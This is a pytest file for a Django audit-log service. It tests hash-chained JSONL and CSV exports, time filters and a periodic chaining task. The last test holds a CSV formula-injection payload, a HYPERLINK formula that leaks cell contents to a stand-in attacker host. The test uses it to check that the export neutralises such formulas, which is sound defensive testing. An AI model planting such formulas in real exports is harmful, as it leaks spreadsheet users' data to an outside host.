import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from audit.chain import GENESIS, canonical_json
from audit.models import AuditEvent
from audit.services import audit_log
from audit.tasks import audit_chain

Action = AuditEvent.Action


@pytest.fixture
def logged(db, analyst, team):
    return [
        audit_log(action=Action.SESSION_CREATED, actor=analyst, team=team, details={"note": "é", "n": n})
        for n in range(3)
    ]


def export(*args) -> str:
    out = io.StringIO()
    call_command("audit_export", *args, stdout=out)
    return out.getvalue()


def recompute(rows: list[dict]) -> bool:
    """An outside party re-checks the chain from the export alone."""
    import hashlib

    prev = GENESIS
    for row in rows:
        record = {k: v for k, v in row.items() if k not in ("prev_hash", "hash")}
        body = json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        if row["prev_hash"] != prev or hashlib.sha256((prev + body).encode()).hexdigest() != row["hash"]:
            return False
        prev = row["hash"]
    return True


def test_export_jsonl_writes_the_whole_chain_in_order(logged):
    rows = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
    membership_events = AuditEvent.objects.exclude(action=Action.SESSION_CREATED).count()
    assert len(rows) == 3 + membership_events
    assert [r["position"] for r in rows] == list(range(1, len(rows) + 1))
    last = rows[-1]
    assert (last["sequence"], last["actor_label"], last["details"]) == (
        logged[2].sequence,
        "ann",
        {"note": "é", "n": 2},
    )
    assert recompute(rows)


def test_the_export_uses_the_canonical_json_that_was_hashed(logged):
    rows = [json.loads(line) for line in export().splitlines()]
    event = AuditEvent.objects.get(sequence=rows[-1]["sequence"])
    assert json.loads(canonical_json(event)) == {
        k: v for k, v in rows[-1].items() if k not in ("prev_hash", "hash")
    }


def test_export_csv_has_a_header_and_one_row_per_event(logged):
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert rows[-1]["sequence"] == str(logged[2].sequence)
    assert json.loads(rows[-1]["details"]) == {"note": "é", "n": 2}
    assert len(rows[-1]["hash"]) == 64
    assert rows[-1]["prev_hash"] == rows[-2]["hash"]


def test_export_filters_by_time(logged):
    middle = logged[1].created_at.isoformat()
    since = [json.loads(line)["sequence"] for line in export("--since", middle).splitlines()]
    until = [json.loads(line)["sequence"] for line in export("--until", middle).splitlines()]
    assert logged[1].sequence in since and logged[0].sequence not in since
    assert logged[0].sequence in until and logged[1].sequence not in until


def test_export_refuses_a_date_that_is_not_iso(db):
    with pytest.raises(CommandError, match="ISO 8601"):
        export("--since", "yesterday")


def test_the_periodic_task_chains_and_appends_the_head_to_the_head_file(logged, head_file):
    audit_chain.apply()
    audit_log(action=Action.SESSION_CREATED)
    audit_chain.apply()
    first, second = [json.loads(line) for line in head_file.read_text().splitlines()]
    head = AuditEvent.objects.order_by("-position").first()
    assert (second["sequence"], second["hash"], second["position"]) == (
        head.sequence,
        head.hash,
        head.position,
    )
    assert first["position"] == second["position"] - 1
    assert {"at", "sequence", "hash", "position"} == second.keys()
    assert not AuditEvent.objects.filter(hash="").exists()


FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def test_a_formula_in_a_user_agent_reaches_the_csv_export_as_text(db, analyst):
    from django.test import Client

    analyst.save()  # the factory's password "pw" is set but not saved
    browser = Client(HTTP_USER_AGENT=FORMULA_AGENT)
    assert browser.post("/login/", {"username": "ann", "password": "pw"}).status_code == 302
    event = AuditEvent.objects.get(action=Action.LOGIN_SUCCEEDED)
    assert event.user_agent == FORMULA_AGENT  # the log keeps what was sent; only the export neutralises it

    text = export("--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    (row,) = [r for r in rows if r["sequence"] == str(event.sequence)]
    assert row["user_agent"] == "'" + FORMULA_AGENT
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    # The JSON lines export keeps the exact hashed value, and the CSV's is one quote away from it.
    (line,) = [json.loads(x) for x in export().splitlines() if json.loads(x)["sequence"] == event.sequence]
    assert line["user_agent"] == FORMULA_AGENT == row["user_agent"][1:]
